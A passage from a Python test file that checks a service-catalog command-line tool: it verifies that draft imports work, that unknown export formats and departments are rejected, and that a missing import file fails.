    assert not ServiceItem.objects.filter(code__startswith="TEST-CLI").exists()

    source.write_bytes(csv_bytes([HEADER, item_row("TEST-CLI-003")]))
    result = cli("catalog", "import", source, "--no-publish")
    assert result.exit_code == 0, result.output
    assert "saved as drafts" in result.output
    assert ServiceItem.objects.get(code="TEST-CLI-003").current is None


def test_cli_export_refuses_unknown_formats_and_departments(cli, db, tmp_path):
    assert cli("catalog", "export", tmp_path / "out.txt").exit_code == 2
    result = cli("catalog", "export", tmp_path / "out.csv", "--department", "nosuch")
    assert result.exit_code == 2 and "department_code" in result.output
    assert not (tmp_path / "out.csv").exists()
    assert cli("catalog", "import", tmp_path / "missing.xlsx").exit_code == 1
